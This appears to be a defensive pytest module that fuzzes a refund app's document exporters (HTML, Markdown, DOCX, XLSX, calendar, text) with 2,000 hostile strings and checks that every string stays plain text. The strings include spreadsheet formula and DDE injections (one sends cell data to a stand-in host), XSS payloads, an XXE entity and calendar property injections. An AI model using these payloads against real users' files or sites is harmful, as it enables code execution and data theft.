"""Whatever somebody types stays text: 2,000 strings in every format, read by independent readers.

Every format is also written once without its guard: the readers have to see the difference.
"""

from __future__ import annotations

import html as markup
import re
import zipfile
from collections.abc import Callable
from datetime import date
from io import BytesIO
from itertools import islice, product
from xml.etree import ElementTree as ET

import openpyxl
import pytest
import vobject
import xlsxwriter
from markdown_it import MarkdownIt

from refundwizard.domain.document import Bullet, CheckItem, Document, Heading, Quote, Table, shown
from refundwizard.domain.workbook import Column, Sheet, Workbook
from refundwizard.export import EXPORTERS, ics, xlsx
from tests.unit.export import reading, sample

pytestmark = [pytest.mark.fault, pytest.mark.timeout(300)]

SIZE = 2000
BEFORE = ("", " ", "\t", "\r", "\n", "\u3000", "\ufeff", "\u00a0", "'", '"', ";", ",", "\u202e")
TRIGGERS = tuple("=+-@|%＝＋－＠｜％")
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/"&A1,"看")',
    "IMPORTXML(CONCAT(A1),1)",
    "SUM(1,1)*2",
    "DDE(1;2)",
    "2+5+cmd",
    '"\x00"&A1',
)
MARKUP = (
    "<script>alert(1)</script>",
    "</title></style><img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)>",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "]]></w:t><w:br/>",
    "&lt;&#60;&amp;",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]>&b;",
    "_x000D_ _x0041_",
    "| a | b |\n| --- | --- |",
    "# a\n- [ ] b\n```",
    "![a](http://example.invalid/a.png)<http://example.invalid>",
    "[a]: http://example.invalid",
    "a\\|b\\\\|c",
    "**a** _b_ ~~c~~ `d`",
    "END:VEVENT\r\nBEGIN:VALARM\r\nTRIGGER:-PT1M",
    "a\nATTACH:file\\n;VALUE=URI:x",
    "\u2028DTSTART:20200101T000000Z\x85x\x0by",
    "{={1}} ${a} $a {0} %s \x07\x1b[31m",
)


def corpus() -> list[str]:
    formulas = (before + sign + body for body, before, sign in product(FORMULAS, BEFORE, TRIGGERS))
    pieces = (f"{a}{before}{b}" for a, before, b in product(MARKUP, BEFORE[:7], MARKUP))
    first = list(islice(formulas, SIZE // 2))
    return [*first, *islice(pieces, SIZE - len(first))]


STRINGS = corpus()
ROUND = {"html": reading.html_words, "md": reading.markdown_words}


def document(texts: list[str]) -> Document:
    """Every text in a heading, a cell on either side, a point, a detail and a quotation."""
    blocks: list[object] = []
    for text in texts:
        row = (text, "中", text)
        table = Table(header=("甲", "乙", "丙"), align=("left",) * 3, rows=(row,))
        check = CheckItem(text="做", details=(text,))
        blocks += [
            Heading(text=text),
            table,
            check,
            Bullet(text=text),
            Quote(label="话", text=text),
        ]
    return reading.document(*blocks)


def plain() -> Document:
    return document(["x"] * SIZE)


def rows(texts: list[str]) -> Document:
    """Every text in a row of one table and in a point: files of thousands of tables take long."""
    cells = tuple((text, "中", text) for text in texts)
    table = Table(header=("甲", "乙", "丙"), align=("left",) * 3, rows=cells)
    return reading.document(table, *(Bullet(text=text) for text in texts))


def test_there_are_as_many_as_promised() -> None:
    assert len(STRINGS) == len(set(STRINGS)) == SIZE


@pytest.mark.parametrize("name", ROUND)
def test_every_text_reads_back_as_it_was_shown(name: str, figure: Callable[..., None]) -> None:
    made = EXPORTERS[name].render(document(STRINGS), sample.RESOURCES).data
    read, at = ROUND[name](made), 0
    for text in STRINGS:
        line = reading.bare(" ".join(shown(text).split("\n")))
        for piece in (line, "甲乙丙", line, "中", line, "做", line, line, "话", line):
            found = read.find(piece, at)
            assert found == at + (len("清单") if at == 0 else 0), (text, piece, read[at : at + 90])
            at = found + len(piece)
    figure(strings=len(STRINGS), format=name)


def test_every_text_of_a_docx_reads_back_as_it_was_shown(figure: Callable[..., None]) -> None:
    made = EXPORTERS["docx"].render(rows(STRINGS), sample.RESOURCES).data
    lines = [" ".join(shown(text).split("\n")).strip() for text in STRINGS]
    cells = [cell for line in lines for cell in (line, "中", line)]
    assert reading.docx_lines(made) == ["清单", "甲", "乙", "丙", *cells, "", *lines]
    figure(strings=len(STRINGS), format="docx")


def shape(page: bytes) -> list[tuple[str, frozenset[str]]]:
    return [(tag, frozenset(names)) for tag, names in reading.parsed(page.decode()).tags]


def test_a_page_has_the_same_elements_whatever_was_typed() -> None:
    html = EXPORTERS["html"]
    made = html.render(document(STRINGS), sample.RESOURCES).data
    assert shape(made) == shape(html.render(plain(), sample.RESOURCES).data)
    raw = markup.unescape(made.decode()).encode()  # the control: the same without the escaping
    assert shape(raw) != shape(made)


def kinds(text: str) -> list[tuple[str, str]]:
    drawn = MarkdownIt("commonmark").enable("table").render(text)
    return [(tag, "") for tag, _names in reading.parsed(drawn).tags if tag not in {"br", "p"}]


def test_markdown_has_the_same_elements_whatever_was_typed() -> None:
    markdown = EXPORTERS["md"]
    made = markdown.render(document(STRINGS), sample.RESOURCES).data.decode()
    flat = markdown.render(plain(), sample.RESOURCES).data.decode()
    assert kinds(made) == kinds(flat)
    assert kinds(re.sub(r"\\(?=[^\n])", "", made)) != kinds(flat)


def elements(data: bytes) -> list[str]:
    """The elements of a DOCX without those a text itself asks for: fonts for Chinese quotes."""
    root = reading.xml_of(data, "word/document.xml")
    hints = {f"{reading.W}rPr", f"{reading.W}rFonts"}
    return [each.tag for each in root.iter() if each.tag not in hints]


def test_a_docx_has_the_same_elements_whatever_was_typed() -> None:
    docx = EXPORTERS["docx"]
    made = docx.render(rows(STRINGS), sample.RESOURCES).data
    assert elements(made) == elements(docx.render(rows(["x"] * SIZE), sample.RESOURCES).data)
    with zipfile.ZipFile(BytesIO(made)) as archive:
        raw = markup.unescape(archive.read("word/document.xml").decode())
    with pytest.raises(ET.ParseError):
        ET.fromstring(raw)  # noqa: S314 - the control: the same without the escaping


def book(texts: list[str]) -> Workbook:
    columns = tuple(Column(title=name) for name in ("甲", "乙", "丙"))
    rows = tuple((text, "中", text) for text in texts)
    sheet = Sheet(name="表", columns=columns, rows=rows)
    return Workbook(title="表", lang="zh_CN", as_of=sample.TODAY, sheets=(sheet,))


def test_no_cell_is_ever_a_formula(figure: Callable[..., None]) -> None:
    made = xlsx.render(book(STRINGS)).data
    (sheet,) = openpyxl.load_workbook(BytesIO(made)).worksheets
    rows = list(sheet.iter_rows(min_row=2))
    assert (len(rows), {len(row) for row in rows}) == (SIZE, {3})
    for text, row in zip(STRINGS, rows, strict=True):
        for cell in (row[0], row[2]):
            assert cell.data_type == "s", text
            assert cell.hyperlink is None
            assert cell.value in {shown(text), f"'{shown(text)}"}, text
            assert re.match(r"[\s\ufeff]*[=+\-@|%＝＋－＠｜％\t\r]", cell.value) is None, text
    figure(cells=2 * len(rows), formulas=0)


def test_the_reader_sees_a_formula_where_there_is_one() -> None:
    out = BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book_of_formulas:
        sheet = book_of_formulas.add_worksheet()
        for number, text in enumerate(STRINGS):
            sheet.write(number, 0, shown(text))
    cells = next(iter(openpyxl.load_workbook(BytesIO(out.getvalue())).worksheets)).columns
    assert sum(cell.data_type == "f" for cell in next(cells)) >= len(TRIGGERS) // 2


def calendar(texts: list[str]) -> bytes:
    dates = tuple(
        ics.Appointment(f"u{number}", date(2026, 1, 1), text, text)
        for number, text in enumerate(texts)
    )
    return ics.render(ics.Calendar("期限", sample.TODAY, 1, dates)).data


def test_a_calendar_gets_no_property_more(figure: Callable[..., None]) -> None:
    made = calendar(STRINGS)
    events = vobject.readOne(made.decode()).vevent_list
    assert len(events) == SIZE
    (flat,) = vobject.readOne(calendar(["x"]).decode()).vevent_list
    for text, event in zip(STRINGS, events, strict=True):
        assert set(event.contents) == set(flat.contents), text
        assert event.summary.value == " ".join(shown(text).split()), text
        assert event.description.value == shown(text), text
    figure(events=len(events))
    raw = calendar(["x\r\nATTACH:file"]).replace(b"x ATTACH", b"x\r\nATTACH", 1)  # the control
    (hurt,) = vobject.readOne(raw.decode()).vevent_list
    assert set(hurt.contents) != set(flat.contents)


def test_plain_text_keeps_one_line_for_a_line() -> None:
    made = EXPORTERS["txt"].render(document(STRINGS), sample.RESOURCES).data.decode("utf-8-sig")
    lines = made.split("\r\n")
    assert not any("\n" in line or "\r" in line for line in lines)
    assert sum(line.startswith("• 甲：") or line == "• 甲" for line in lines) == SIZE
    spaces = {"\n", "\u3000", "\u00a0"}
    assert all(char in spaces or char.isprintable() for char in made.replace("\r\n", "\n"))
